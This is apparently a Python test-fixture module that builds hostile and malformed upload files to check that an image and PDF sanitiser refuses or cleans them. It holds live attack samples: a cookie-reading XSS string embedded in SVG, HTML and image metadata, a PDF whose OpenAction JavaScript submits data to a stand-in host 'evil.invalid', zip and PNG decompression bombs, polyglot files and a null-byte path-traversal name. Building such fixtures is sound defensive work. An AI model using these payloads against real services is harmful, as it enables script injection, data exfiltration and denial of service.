"""Files as attackers and careless people send them; made here, so that none lies in the project."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import pypdfium2
from PIL import Image, PngImagePlugin

GPS = b"SECRET-PLACE-21.0285N-105.8542E"
SCRIPT = b"<script>alert(document.cookie)</script>"


def picture(
    size: tuple[int, int] = (320, 240), colour: tuple[int, int, int] = (40, 120, 200)
) -> Image.Image:
    """A picture whose upper left corner is red, so that turning it shows."""
    made = Image.new("RGB", size, colour)
    made.paste((200, 20, 20), (0, 0, size[0] // 4, size[1] // 4))
    return made


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    written = io.BytesIO()
    image.save(written, kind, **options)
    return written.getvalue()


@cache
def jpeg() -> bytes:
    return saved(picture(), "JPEG")


@cache
def png() -> bytes:
    return saved(picture(), "PNG")


@cache
def webp() -> bytes:
    return saved(picture(), "WEBP")


@cache
def pdf(pages: int = 1) -> bytes:
    first, *others = [picture() for _ in range(pages)]
    return saved(first, "PDF", save_all=True, append_images=others)


def exif_jpeg(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = GPS.decode()
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (21.0, 1.0, 42.6)
    place[3], place[4] = "E", (105.0, 51.0, 15.1)
    return saved(picture(), "JPEG", exif=exif)


def xmp_webp() -> bytes:
    return saved(picture(), "WEBP", xmp=b"<x:xmpmeta>" + GPS + SCRIPT + b"</x:xmpmeta>")


def commented_png() -> bytes:
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", (GPS + SCRIPT).decode())
    words.add_itxt("XML:com.adobe.xmp", GPS.decode(), zip=True)
    return saved(picture(), "PNG", pnginfo=words)


def icc_jpeg() -> bytes:
    return saved(picture(), "JPEG", icc_profile=GPS * 50)


def cmyk_jpeg() -> bytes:
    return saved(picture().convert("CMYK"), "JPEG")


def deep_png() -> bytes:
    return saved(Image.new("I;16", (64, 64), 40_000), "PNG")


def see_through_png() -> bytes:
    return saved(Image.new("RGBA", (64, 64), (255, 0, 0, 0)), "PNG")


def palette_png() -> bytes:
    return saved(picture().convert("P"), "PNG", transparency=0)


def multi_picture() -> bytes:
    """A JPEG as some phones write it, with a second view of the scene."""
    return saved(picture(), "MPO", save_all=True, append_images=[picture()])


def jpeg_and_zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("evil.js", SCRIPT)
    return jpeg() + packed.getvalue()


def jpeg_and_html() -> bytes:
    return jpeg() + b"<html>" + SCRIPT


def gif_and_script() -> bytes:
    return b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1);//"


def zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0", b"\0" * 5_000_000)
    return packed.getvalue()


def svg() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"


def html() -> bytes:
    return b"<!doctype html><html>" + SCRIPT


def program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\0" * 100


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, *, text_bomb: bool = False) -> bytes:
    """A PNG of one colour that packs to nearly nothing, row by row."""
    packer = zlib.compressobj(9)
    row = b"\0" * (width + 1)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    extra = _chunk(b"zTXt", b"c\0\0" + zlib.compress(b"\0" * 30_000_000)) if text_bomb else b""
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + extra + _chunk(b"IDAT", body)
        + _chunk(b"IEND", b"")
    )  # fmt: skip


def claims_to_be_huge() -> bytes:
    """A PNG that says 100,000 × 100,000 pixels and holds one row."""
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
    )


def sixty_megapixels() -> bytes:
    return saved(Image.new("L", (10_000, 6_000), 128), "JPEG", quality=20)


def huge_webp() -> bytes:
    """A WebP whose header says 16,384 × 16,384; its reader would make room for all of it."""
    size = (16_383).to_bytes(3, "little")
    head = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + size + size
    return b"RIFF" + struct.pack("<I", len(head) + 4) + b"WEBP" + head


def animated(kind: str) -> bytes:
    frames = [picture(colour=(20 * number, 0, 0)) for number in range(4)]
    return saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=100)


def tiny() -> bytes:
    return saved(Image.new("RGB", (1, 1)), "PNG")


def written_pdf(body: str, *, tail: bytes = b"") -> bytes:
    """A PDF by hand: objects as text, the cross-reference table left to the reader to repair."""
    return b"%PDF-1.7\n" + body.encode() + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n" + tail


PAGE = "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >> endobj"
PAGES = "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj"


def script_pdf() -> bytes:
    return written_pdf(
        "1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS"
        " (app.alert\\(1\\); this.submitForm\\('http://evil.invalid'\\)) >>"
        " /AA << /WC << /S /URI /URI (http://evil.invalid) >> >> >> endobj\n"
        f"{PAGES}\n{PAGE}"
    )


def attachment_pdf() -> bytes:
    document = pypdfium2.PdfDocument.new()
    document.new_page(300, 200)
    attachment = document.new_attachment("evil.exe")
    attachment.set_data(b"MZ" + SCRIPT)
    written = io.BytesIO()
    document.save(written)
    document.close()
    return written.getvalue()


def locked_pdf() -> bytes:
    """A PDF that names a lock which no empty password opens."""
    return written_pdf(
        "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        f"{PAGES}\n{PAGE}\n"
        "4 0 obj << /Filter /Standard /V 1 /R 2 /P -44 /O <"
        + "41" * 32
        + "> /U <"
        + "42" * 32
        + "> >> endobj"
    ).replace(b"trailer << ", b"trailer << /ID [<00><00>] /Encrypt 4 0 R ")


def pdf_of_box(box: str) -> bytes:
    return written_pdf(
        "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        f"{PAGES}\n{PAGE.replace('[0 0 300 200]', box)}"
    )


def pageless_pdf() -> bytes:
    return written_pdf(
        "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj"
    )


def looping_pdf() -> bytes:
    """Pages that are their own parts."""
    return written_pdf(
        "1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        "2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >> endobj"
    )


def late_pdf() -> bytes:
    """A page of HTML that readers also take for a PDF: it begins 200 bytes later."""
    return html() + b" " * 200 + pdf()


def too_long() -> bytes:
    return jpeg() + b"\0" * (10 * 1024 * 1024 + 1 - len(jpeg()))


# What is refused, with the code that says why.
REFUSED: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "empty": (lambda: b"", {"empty"}),
    "one byte more than 10 MB": (too_long, {"too_big"}),
    "text": (lambda: b"hello", {"wrong_type"}),
    "null bytes": (lambda: b"\0" * 1000, {"wrong_type"}),
    "GIF that is a script": (gif_and_script, {"wrong_type"}),
    "zip bomb": (zip_bomb, {"wrong_type"}),
    "SVG with a script": (svg, {"wrong_type"}),
    "HTML": (html, {"wrong_type"}),
    "program": (program, {"wrong_type"}),
    "BMP": (lambda: saved(picture(), "BMP"), {"wrong_type"}),
    "TIFF": (lambda: saved(picture(), "TIFF"), {"wrong_type"}),
    "PDF behind HTML": (late_pdf, {"wrong_type"}),
    "a path instead of a file": (lambda: b"../../etc/passwd\0.jpg", {"wrong_type"}),
    "truncated JPEG": (lambda: jpeg()[: len(jpeg()) // 2], {"broken"}),
    "truncated PNG": (lambda: png()[:100], {"broken"}),
    "truncated WebP": (lambda: webp()[:40], {"broken"}),
    "beginning of a JPEG": (lambda: b"\xff\xd8\xff\xe0" + b"\0" * 200, {"broken"}),
    "beginning of a WebP": (lambda: b"RIFF\0\0\0\0WEBP", {"broken"}),
    "noise as PNG": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, {"broken"}),
    "PNG bomb": (lambda: png_of(8_000, 6_000), {"too_many_pixels"}),
    "PNG that claims to be huge": (claims_to_be_huge, {"too_many_pixels"}),
    "60 megapixels": (sixty_megapixels, {"too_many_pixels"}),
    "WebP that claims to be huge": (huge_webp, {"too_many_pixels"}),
    "text bomb in a PNG": (lambda: png_of(64, 64, text_bomb=True), {"broken", "too_costly"}),
    "animated WebP": (lambda: animated("WEBP"), {"animated"}),
    "animated PNG": (lambda: animated("PNG"), {"animated"}),
    "one pixel": (tiny, {"too_small"}),
    "truncated PDF": (lambda: b"%PDF-1.7\n1 0 obj <<", {"broken"}),
    "locked PDF": (locked_pdf, {"encrypted"}),
    "PDF of 21 pages": (lambda: pdf(21), {"too_many_pages"}),
    "PDF without a page": (pageless_pdf, {"no_pages", "broken"}),
    "PDF whose pages hold themselves": (looping_pdf, {"no_pages", "broken"}),
    "PDF page that is a line": (lambda: pdf_of_box("[0 0 14400 1]"), {"too_small"}),
}

# What is taken, made anew.
CLEANED: dict[str, Callable[[], bytes]] = {
    "JPEG": jpeg,
    "PNG": png,
    "WebP": webp,
    "JPEG with a place": exif_jpeg,
    "WebP with XMP": xmp_webp,
    "PNG with comments": commented_png,
    "JPEG with a false colour profile": icc_jpeg,
    "CMYK JPEG": cmyk_jpeg,
    "16-bit PNG": deep_png,
    "see-through PNG": see_through_png,
    "PNG with a palette": palette_png,
    "JPEG with two pictures": multi_picture,
    "JPEG and ZIP": jpeg_and_zip,
    "JPEG and HTML": jpeg_and_html,
    "PDF": pdf,
    "PDF with a script": script_pdf,
    "PDF with an attachment": attachment_pdf,
    "PDF of a huge page": lambda: pdf_of_box("[0 0 999999 999999]"),
    "PDF and ZIP": lambda: pdf() + zip_bomb(),
}
